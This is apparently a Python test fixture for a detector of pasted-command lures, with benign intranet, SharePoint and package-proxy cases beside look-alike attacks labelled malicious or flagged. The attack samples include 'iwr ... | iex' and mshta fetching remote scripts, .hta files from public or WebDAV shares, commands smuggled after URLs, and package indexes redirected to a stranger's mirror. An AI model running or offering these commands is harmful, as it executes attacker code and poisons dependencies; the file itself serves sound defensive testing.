"""fpover20: the known leftovers cleared by technique (a web address with a space typed into
Explorer's bar or the Run box; scripts run from the company's own file share) and the
look-alikes that try to abuse each clearing and must keep their level."""

from fp20_office import each

INTRANET = "https://intranet.acme.example/it/howto/shared-drives"
SP_HELP = "https://acme.sharepoint.com/sites/IT/SitePages/Where-files-live.aspx"
LURE_PAGE = "https://docs-verify.example/secure/view"

# a web address whose folder or file names keep their spaces (copied as shown, not as %20):
# the browser opens it whole, from a page or typed
SPACED_ADDRESS = [
    *each(
        SP_HELP,
        "explorer_bar",
        "https://acme.sharepoint.com/sites/IT/Shared Documents",
        "https://acme.sharepoint.com/sites/Finance/Shared Documents/Month End",
        "https://acme.sharepoint.com/sites/HR/Shared Documents/Policies/Leave Policy 2025.pdf",
    ),
    *each(
        INTRANET,
        "run_dialog",
        "https://acme.sharepoint.com/sites/IT/Shared Documents",
        "https://acme-my.sharepoint.com/personal/jdoe_acme_com/Documents/Team Photos",
    ),
    *each(
        None,
        "explorer_bar",
        "https://acme.sharepoint.com/sites/Legal/Shared Documents/Contracts 2024",
        "https://drive.acme.example/Shared/Board Papers/Q4 Pack.docx",
    ),
]

# a program or script on a file server of the user's own network: a private address (RFC 1918)
# or a name only the local network resolves (fs01.corp, nas.local), from an intranet page,
# typed, or from a colleague's chat
# a mail's tracking link or a video's address with its query's & and ; pasted into the Run box
# or Explorer's bar to open it: handed whole to the browser
QUERY_ADDRESS = [
    *each(
        "https://outlook.office.com/mail/inbox",
        "run_dialog",
        "https://www.youtube.com/watch?v=Xk2Lp9mN4vR&list=PL8f3a1c2d4e5f&index=3&t=742s",
        "https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Facme.sharepoint.com%2Fsites%2FHR&data=05%7C02%7Cjdoe%40acme.example%7C8f3a1c&reserved=0",
        "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&url=https%3A%2F%2Fdocs.python.org%2F3%2F&usg=AOvVaw3",
    ),
    *each(
        None,
        "explorer_bar",
        "https://acme.sharepoint.com/sites/HR/_layouts/15/Doc.aspx?sourcedoc=%7B8f3a1c2d%7D&file=Leave.docx&action=default&mobileredirect=true",
        "https://www.booking.com/hotel/pt/almirante.html?aid=304142&checkin=2025-03-14&checkout=2025-03-18;lang=en-gb",
    ),
]

OWN_SHARES = [
    *each(
        INTRANET,
        "run_dialog",
        "\\\\10.20.1.15\\deploy\\agent.msi",
        "\\\\192.168.10.4\\apps\\VPN Client\\setup.exe",
        "\\\\fs01.corp\\scripts\\logon.cmd",
    ),
    *each(
        INTRANET,
        "terminal",
        "msiexec /i \\\\10.20.1.15\\deploy\\agent.msi /qn /norestart",
        "& \\\\192.168.10.4\\scripts\\map-drives.ps1",
        "powershell -ExecutionPolicy Bypass -File \\\\fs01.corp\\scripts\\map-drives.ps1",
        "start \\\\172.20.4.11\\it\\tools\\printer-setup.exe",
    ),
    *each(
        None,
        "run_dialog",
        "\\\\10.0.8.25\\software\\office\\setup.exe",
        "\\\\nas.local\\family\\photo-backup.bat",
    ),
    *each(
        "Microsoft Teams",
        "terminal",
        "msiexec /i \\\\192.168.1.20\\installers\\7z2408-x64.msi /passive",
        "pushd \\\\10.1.1.5\\share && call install.cmd",
    ),
]

SPACED_LURES = [
    # a program's name, a program file or a fake check's words after an address stay a command
    ("explorer_bar", LURE_PAGE, "malicious", "https://files.example.test/tools/Setup Tool.exe"),
    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/view mshta"),
    (
        "run_dialog",
        LURE_PAGE,
        "malicious",
        "https://docs-verify.example/a.pdf Verification ID 4821",
    ),
    ("run_dialog", None, "suspicious", "https://docs-verify.example/invoice.pdf run now"),
    ("explorer_bar", LURE_PAGE, "malicious", "https://docs-verify.example/x powershell -w h"),
]

# the company's package proxy or index set in the environment, from its wiki on the wiki
# vendor's site (the tenant named like the company), as `npm config set registry` already is
TENANT_WIKI = "https://acme.atlassian.net/wiki/spaces/ENG/pages/418273/Developer+setup"
OWN_INDEX = [
    *each(
        TENANT_WIKI,
        "terminal",
        "go env -w GOPROXY=https://goproxy.acme.example,direct",
        "go env -w GOPROXY=https://athens.acme.example GONOSUMDB=git.acme.example/*",
        "export PIP_INDEX_URL=https://pypi.acme.example/simple",
        "export GOPROXY=https://goproxy.acme.example,https://proxy.golang.org,direct",
    ),
    *each(
        "https://acme.notion.site/Go-toolchain-setup-8f3a1c",
        "terminal",
        "go env -w GOPROXY=https://goproxy.acme.example,direct",
    ),
]

LAN_PAGE = "https://it-helpdesk-portal.example/fix"
INDEX_LURES = [
    # a stranger's index from the tenant wiki, the company's beside a stranger's, the
    # company's name from a page of anyone's (a gist)
    (
        "terminal",
        TENANT_WIKI,
        "malicious",
        "go env -w GOPROXY=https://goproxy.fast-mirror.example,direct",
    ),
    (
        "terminal",
        TENANT_WIKI,
        "malicious",
        "export GOPROXY=https://goproxy.acme.example,direct PIP_INDEX_URL=https://pypi.fast-mirror.example/simple",
    ),
    (
        "terminal",
        "https://gist.github.com/someone/8f3a1c",
        "malicious",
        "go env -w GOPROXY=https://goproxy.acme.example,direct",
    ),
    (
        "terminal",
        "https://acme-support.atlassian.net/wiki/spaces/HELP/pages/1/Fix",
        "malicious",
        "export PIP_INDEX_URL=https://pypi.acme.example/simple",
    ),
]
SHARE_LURES = [
    # a public address, WebDAV (over the internet), or a stranger's share beside the own one
    ("run_dialog", LAN_PAGE, "malicious", "\\\\198.51.100.44\\deploy\\agent.msi"),
    ("run_dialog", LAN_PAGE, "malicious", "\\\\172.32.0.9\\s\\update.hta"),
    ("run_dialog", None, "flagged", "\\\\10.20.1.15@SSL\\DavWWWRoot\\x.hta"),
    (
        "terminal",
        LAN_PAGE,
        "malicious",
        "msiexec /i \\\\203.0.113.9\\apps\\agent.msi /qn",
    ),
    (
        "terminal",
        LAN_PAGE,
        "flagged",
        "& \\\\192.168.10.4\\scripts\\a.ps1; & \\\\files.docs-verify.example\\s\\x.ps1",
    ),
    (
        "terminal",
        LAN_PAGE,
        "malicious",
        "& \\\\10.20.1.15\\scripts\\a.ps1; iwr https://docs-verify.example/p.ps1 | iex",
    ),
]

QUERY_LURES = [
    # a word, a pipe, a substitution or a second line after the address are still a command
    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/a?b=1&c=2 calc"),
    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/a?b=1|calc"),
    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/a?b=$(calc)"),
    (
        "run_dialog",
        None,
        "flagged",
        "https://docs-verify.example/a?b=1\nmshta https://docs-verify.example/x",
    ),
    (
        "run_dialog",
        LURE_PAGE,
        "malicious",
        "https://docs-verify.example/captcha/check.hta?id=4821&r=2",
    ),
]

LOOK_ALIKES = [
    ("spaced-address-look-alike", "windows", SPACED_LURES),
    ("query-address-look-alike", "windows", QUERY_LURES),
    ("own-share-look-alike", "windows", SHARE_LURES),
    ("own-index-look-alike", "any", INDEX_LURES),
]
